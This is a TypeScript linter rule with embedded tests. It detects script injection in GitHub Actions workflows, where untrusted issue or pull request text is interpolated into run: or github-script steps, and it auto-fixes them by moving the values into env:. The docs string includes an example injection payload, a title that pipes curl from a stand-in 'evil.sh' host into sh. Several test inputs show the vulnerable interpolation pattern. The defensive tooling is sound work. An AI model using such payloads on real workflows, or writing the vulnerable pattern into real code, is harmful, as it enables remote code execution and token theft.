import type { Rule } from '../../engine/types';
import type { WorkflowModel } from '../model';
import { analyzeExpressions } from '../expr/analysis';
import { moveToEnvFix } from '../envFix';

const rule: Rule<WorkflowModel> = {
  id: 'untrusted-input',
  language: 'workflow',
  severity: 'error',
  compat: { actionlint: 'expression' },
  docs: {
    summary: 'A `${{ }}` in a `run:` script (or an `actions/github-script` script) expands text an outsider controls: issue and pull request titles and bodies, comments, branch names, commit messages.',
    why: 'GitHub pastes the value into the script before it runs, so a pull request titled `"; curl evil.sh | sh; "` runs that command with your token (script injection). Pass the value through `env:` and use the shell variable instead.',
    bad: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
    good: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
  },
  check(ctx) {
    if (ctx.model.kind !== 'workflow') return;
    for (const d of analyzeExpressions(ctx.model, ctx.files, ctx.path).diags) {
      if (d.rule !== 'untrusted-input') continue;
      const fix = moveToEnvFix(ctx.model, d.start, d.end);
      ctx.report({ message: d.message, range: ctx.model.lines.range(d.start, Math.max(d.end, d.start)), severity: d.severity, fixes: fix ? [fix] : undefined });
    }
  },
  tests: [
    {
      name: 'titles, commit messages and branch names in scripts',
      input:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo ${{ github.event.pull_request.title }}\n          echo ${{ github.event.commits[0].message }} ${{ github.head_ref }}\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.event.pull_request.body }}')\n",
      expect: [
        { line: 7, col: 20, message: '"github.event.pull_request.title" is potentially untrusted' },
        { line: 8, col: 20, message: 'github.event.commits.*.message' },
        { line: 8, message: 'github.head_ref' },
        { line: 11, message: 'github.event.pull_request.body' },
      ],
    },
    {
      name: 'untrusted values through env, and trusted values in scripts',
      input:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"$T\" ${{ github.event.pull_request.number }} ${{ github.sha }}\n        env:\n          T: ${{ github.event.pull_request.title }}\n",
      expect: [],
    },
    {
      name: 'fix: moves the expression to the step env (block scalar, quoting kept, one name per expression)',
      input:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo ${{ github.event.pull_request.title }}\n          echo \"title: ${{ github.event.pull_request.title }}!\" '${{ github.head_ref }}'\n        shell: bash\n      - run: echo 'x${{ github.event.pull_request.body }}y'\n",
      expect: [
        { line: 7, col: 20 },
        { line: 8, col: 28 },
        { line: 8, col: 70 },
        { line: 10, col: 25 },
      ],
      fixed:
        "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo \"$PULL_REQUEST_TITLE\"\n          echo \"title: $PULL_REQUEST_TITLE!\" \"$HEAD_REF\"\n        shell: bash\n        env:\n          PULL_REQUEST_TITLE: ${{ github.event.pull_request.title }}\n          HEAD_REF: ${{ github.head_ref }}\n      - run: echo 'x'\"$PULL_REQUEST_BODY\"'y'\n        env:\n          PULL_REQUEST_BODY: ${{ github.event.pull_request.body }}\n",
    },
    {
      name: 'fix: extends an existing env without colliding, quoted YAML scalars, github-script',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ISSUE_TITLE: fixed\n    steps:\n      - name: t\n        env:\n          OTHER: 1\n        run: \"echo \\\"${{ github.event.issue.title }}\\\"\"\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log('${{ github.event.issue.body }}')\n            console.log(`body: ${{ github.event.issue.body }}`, \"t=${{ github.event.issue.title }}\")\n",
      expect: [{ line: 11, col: 26 }, { line: 15, col: 30 }, { line: 16, col: 36 }, { line: 16, col: 72 }],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ISSUE_TITLE: fixed\n    steps:\n      - name: t\n        env:\n          OTHER: 1\n          ISSUE_TITLE_2: ${{ github.event.issue.title }}\n        run: \"echo \\\"$ISSUE_TITLE_2\\\"\"\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log(process.env.ISSUE_BODY)\n            console.log(`body: ${process.env.ISSUE_BODY}`, \"t=\" + process.env.ISSUE_TITLE_2 + \"\")\n        env:\n          ISSUE_BODY: ${{ github.event.issue.body }}\n          ISSUE_TITLE_2: ${{ github.event.issue.title }}\n",
    },
    {
      name: 'fix: PowerShell on Windows runners, cmd, flow and empty env; none for python',
      input:
        "on: issues\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: Write-Output \"${{ github.event.issue.title }}\"\n        env: {}\n      - run: echo ${{ github.event.issue.title }}\n        shell: cmd\n        env:\n      - run: print('${{ github.event.issue.title }}')\n        shell: python\n",
      expect: [{ line: 6, col: 32 }, { line: 8, col: 23 }, { line: 11, col: 25 }],
      fixed:
        "on: issues\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: Write-Output $env:ISSUE_TITLE\n        env: { ISSUE_TITLE: '${{ github.event.issue.title }}' }\n      - run: echo %ISSUE_TITLE%\n        shell: cmd\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n      - run: print('${{ github.event.issue.title }}')\n        shell: python\n",
    },
  ],
};

export default rule;
